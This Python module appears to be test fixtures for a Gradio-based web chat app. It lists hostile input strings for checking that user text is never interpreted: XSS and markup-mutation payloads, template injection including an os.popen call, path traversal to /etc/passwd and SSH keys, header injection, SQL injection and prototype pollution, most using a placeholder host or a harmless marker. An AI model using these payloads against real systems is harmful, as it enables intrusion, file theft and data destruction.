"""Strings that do harm where they are taken for anything but text.

Where one is interpreted, it sets `window.hacked` or fetches from `evil.example`, from an address of
its own; it asks for a file of the server; or it reads otherwise than it is written ({{7*7}}).
"""

from typing import Final

SOME: Final = [
    "<img src=http://evil.example/x.png onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    "![](http://evil.example/y.png)",
    "[x](javascript:window.hacked=1)",
    "<div style=\"background:url('http://evil.example/z.png')\">",
    "$$\\href{javascript:window.hacked=1}{x}$$ \\(x\\)",
    "</div></div>\n\n# Titel\n\n<style>@import url(http://evil.example/a.css);</style>",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} {% raw %}",
    '__i18n__{"__type__":"translation_metadata","key":"common.submit"}',
    '" onmouseover="window.hacked=1" x="',
    "&lt;b&gt; &amp; <b>",
    "http://evil.example/auto <http://evil.example/auto>",
    "```mermaid\ngraph TD\n```",
    "<svg/onload=window.hacked=1><iframe src=http://evil.example/></iframe>",
]
"""A few of many kinds, for tests that try each of them in many places."""

HTML: Final = [
    "<ScRiPt\n>window.hacked=1</sCrIpT\t>",
    '<script src="http://evil.example/script"></script>',
    '<script type="module">window.hacked=1</script>',
    '"><script>/*]]>*/window.hacked=1</script>',
    "'><img src=x onerror=window.hacked=1>",
    '<img srcset="http://evil.example/srcset 1x">',
    '<image src="http://evil.example/image">',
    '<picture><source srcset="http://evil.example/picture"><img></picture>',
    '<video poster="http://evil.example/poster"></video>',
    '<video><source src="x:" onerror="window.hacked=1"></video>',
    '<input type="image" src="http://evil.example/input">',
    '<details open ontoggle="window.hacked=1">x</details>',
    '<body onload="window.hacked=1" background="http://evil.example/body">',
    "<p style=animation:k onanimationstart=window.hacked=1><style>@keyframes k{}</style>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<iframe src="javascript:parent.hacked=1"></iframe>',
    '<object data="http://evil.example/object"></object>',
    '<embed src="http://evil.example/embed">',
    '<base href="http://evil.example/base/"><img src="x">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/meta">',
    '<link rel="stylesheet" href="http://evil.example/link">',
    '<link rel="preload" as="image" href="http://evil.example/preload">',
    "<style>html{background:url(http://evil.example/url)}</style>",
    '<style>@import "http://evil.example/import";</style>',
    '<p style="list-style:url(http://evil.example/list);display:list-item">x</p>',
    '<form><button formaction="javascript:window.hacked=1">x</button></form>',
    '<a href="javascript:window.hacked=1">x</a>',
    '<a href="jav&#x09;asc&#10;ript&colon;window.hacked=1">x</a>',
    '<a href="\x01 \x1fjavascript:window.hacked=1">x</a>',
    '<iframe name="hacked"></iframe>',
]
"""Each acts in a page that takes it for HTML, some of them when what they show is clicked on."""

VECTORS: Final = [
    "<svg><script>window.hacked=1</script></svg>",
    '<svg><script href="data:,window.hacked=1" /></svg>',
    '<svg><image href="http://evil.example/vector"/></svg>',
    '<svg><foreignObject><img src=x onerror="window.hacked=1"></foreignObject></svg>',
    '<svg><animate onbegin="window.hacked=1" attributeName="x" dur="1s"/></svg>',
    '<svg><a href="javascript:window.hacked=1"><text y="9">x</text></a></svg>',
    '<math><mtext><img src=x onerror="window.hacked=1"></mtext></math>',
    "<math><mi><svg onload=window.hacked=1></mi></math>",
]
"""The same in SVG and MathML."""

BREAKOUTS: Final = [
    "</title><script>window.hacked=1</script>",
    "</textarea><img src=x onerror=window.hacked=1>",
    "</noscript><img src=x onerror=window.hacked=1>",
    "</style></script><script>window.hacked=1</script>",
    "--!><img src=x onerror=window.hacked=1>",
    "]]><img src=x onerror=window.hacked=1>",
    "</span></p></li></ul></div></main></body></html><svg onload=window.hacked=1>",
]
"""What ends the element, comment or section that it is put in, and acts behind it."""

MARKDOWN: Final = [
    "![x](http://evil.example/markdown 'x')",
    "![x][r]\n\n[r]: http://evil.example/reference",
    "[x][r]\n\n[r]: javascript:window.hacked=1",
    "[x](<javascript:window.hacked=1>)",
    "<javascript:window.hacked=1>",
    "[![x](http://evil.example/nested)](javascript:window.hacked=1)",
    "<div>\n\n*x*\n\n</div>\n\n<img src=http://evil.example/block>",
]
"""Each acts where it is rendered as Markdown with all links and with HTML."""

OTHER_MARKUP: Final = [
    "<a href='vbscript:window.hacked=1'>x</a> [x](vbscript:window.hacked=1)",
    "<a href='data:text/html,<script>opener.hacked=1</script>'>x</a>",
    '<p style="width:expression(window.hacked=1);-moz-binding:url(http://evil.example/xbl)">x</p>',
    '<svg><use href="http://evil.example/use#x"/></svg>',
    '<svg><a><animate attributeName="href" values="javascript:window.hacked=1"/>x</a></svg>',
    "<xml><object classid='clsid:0'><param name=src value=http://evil.example/param></xml>",
    "<!-- never closed",
    "<![CDATA[ never closed",
    "<textarea>never closed <title>never closed <noscript>never closed <plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=window.hacked=1&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    '<svg></p><style><a id="</style><img src=x onerror=window.hacked=1>">',
    "<listing>&lt;img src=x onerror=window.hacked=1&gt;</listing>",
    "<img alt='`` onerror=window.hacked=1'>",
    "Text\n\n    <img src=http://evil.example/indented>\n\tcode",
    "~~~html\n<script>window.hacked=1</script>\n~~~",
    '```mermaid\ngraph TD; A["<img src=x onerror=window.hacked=1>"]; click A "javascript:0"\n```',
    "# Titel\n\n> Zitat\n\n1. eins\n\n| a | b |\n|---|---|\n| c | d |\n\n---\n\n***x***",
    "\\(\\url{javascript:window.hacked=1}\\) $\\includegraphics{http://evil.example/tex}$",
    "\\[\\htmlData{onclick=window.hacked=1}{x}\\]",
]
"""Old browsers' and other renderers', and what changes while it is parsed and written anew."""

TEMPLATES: Final = [
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] @(7*7)",
    "{{config}} {{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "{@html '<img src=x onerror=window.hacked=1>'} {#if true}{window.hacked=1}{/if}",
    "<?php echo 7*7; ?><?xml-stylesheet href='http://evil.example/xslt'?>",
    "{0.__class__} {count} {limit} {command} %s %n %(x)s",
]

GRADIO: Final = [
    "__i18n__common.submit",
    "![x](/gradio_api/file=/etc/passwd) <img src=/file=/etc/passwd>",
    '{"path":"/etc/passwd","meta":{"_type":"gradio.FileData"}}',
    '{"__type__":"update","visible":false} /gradio_api/proxy=http://evil.example/proxy',
]

HEADERS: Final = [
    "x\r\nSet-Cookie: hacked=1",
    "x\nLocation: http://evil.example/location",
    "x\r\n\r\n<script>window.hacked=1</script>",
    "%0d%0aSet-Cookie:%20hacked=1%E5%98%8A%E5%98%8DSet-Cookie:%20hacked=1",
    "\u560a\u560dSet-Cookie: hacked=1",
]

PATHS: Final = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//evil.example/path",
    "file:///etc/passwd",
    "....//....//etc/passwd%00.txt",
    "~root/.ssh/id_rsa;ls|id`id`$(id)",
    "' OR 1=1; DROP TABLE documents; --",
]

CHARACTERS: Final = [
    "null\0byte",
    "\x1b[31mrot\x1b[0m\x07 \x7f \x80",
    "\u202egnud\u202d \u202eohne Ende",
    "\u2066\u2067\u2068 isoliert, ohne Ende",
    "z\u200be\u200cr\u200do\u2060 b\ufeffr\u00ade\u180ei\u2063t",
    "Za\u0338\u0322\u0328\u0353l\u0335\u0321g\u0336\u0361o" + "\u0301" * 100,
    "a\u2028window.hacked=1\u2029b\x0bc\x0cd\x85e",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e \u02b9\u02ba\uff02",
    "\ufdd0\ufffd\ue000\U0001f3f4\U000e0067\U000e0062\U000e007f\U0010fffe",
]

NAMES: Final = [
    '{"__proto__":{"hacked":1}} __proto__[hacked]=1&constructor[prototype][hacked]=1',
    "__proto__",
    "constructor",
    '<a id="gradio_config"></a><a id="gradio_config" name="root" href="http://evil.example/g"></a>',
    '<span id="say-copied">x</span><div id="conversation-0123456789"></div><p id="turn-1"></p>',
    '<form id="question"><textarea id="remark"></textarea></form><form id="send"></form>',
    '<form name="body"><input name="querySelector"><img name="currentScript"></form>',
]
"""Keys of every object, and names that the page's scripts look things up by."""

LONG: Final = ["W" * 1999, "<" * 900 + ">" * 900, "[" * 990 + "](" * 490, "*a **b " * 280 + "."]

LIVE: Final = [*HTML, *VECTORS, *BREAKOUTS]
HOSTILE: Final = [
    *(*SOME, *LIVE, *MARKDOWN, *OTHER_MARKUP, *TEMPLATES, *GRADIO),
    *(*HEADERS, *PATHS, *CHARACTERS, *NAMES, *LONG),
]
